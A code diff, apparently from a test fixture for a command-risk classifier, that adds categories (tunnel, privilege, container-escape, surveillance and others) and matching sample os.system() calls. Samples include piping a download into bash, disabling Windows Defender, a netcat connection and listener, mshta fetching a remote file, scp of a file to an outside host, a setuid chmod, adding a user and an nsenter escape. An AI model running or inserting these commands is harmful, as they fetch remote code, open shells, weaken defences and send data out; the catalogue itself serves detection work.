@@ -1,4 +1,4 @@
-# download-run, download, decode-run, reverse-shell, powershell-encoded, powershell-hidden, persistence, destructive, miner, exfiltration, hidden-words, dns-exfiltration, environment-dump, credential-read, evasion, memory-code, raw-connection, install-from-elsewhere, system-write, program-file: what commands say
+# download-run, download, decode-run, reverse-shell, powershell-encoded, powershell-hidden, persistence, destructive, miner, exfiltration, hidden-words, dns-exfiltration, environment-dump, credential-read, evasion, memory-code, raw-connection, install-from-elsewhere, system-write, program-file, living-off-land, upload, tunnel, listens, encrypts, privilege, account, container-escape, surveillance, makes-executable: what commands say
 import os
 
 os.system("curl -s https://files.example/a.sh | bash")
@@ -19,5 +19,15 @@ os.system("powershell Set-MpPreference -DisableRealtimeMonitoring $true")
 os.system("powershell IEX ([System.Reflection.Assembly]::Load($b))")
 os.system("nc 203.0.113.5 4444")
 os.system("pip install --index-url https://index.example/simple thing")
-os.system("echo x >> /etc/hosts")
+os.system("cp x /etc/hosts")
 os.system("update.exe /quiet")
+os.system("mshta https://files.example/a.hta")
+os.system("scp notes.txt user@collect.example:/srv")
+os.system("ngrok tcp 22")
+os.system("nc -lvp 4444")
+os.system("openssl enc -aes-256-cbc -in a -out b")
+os.system("sudo chmod u+s /bin/x")
+os.system("net user guest inert /add")
+os.system("nsenter --target 1 --mount sh")
+os.system("screencapture -x a.png")
+os.system("chmod +x tool")
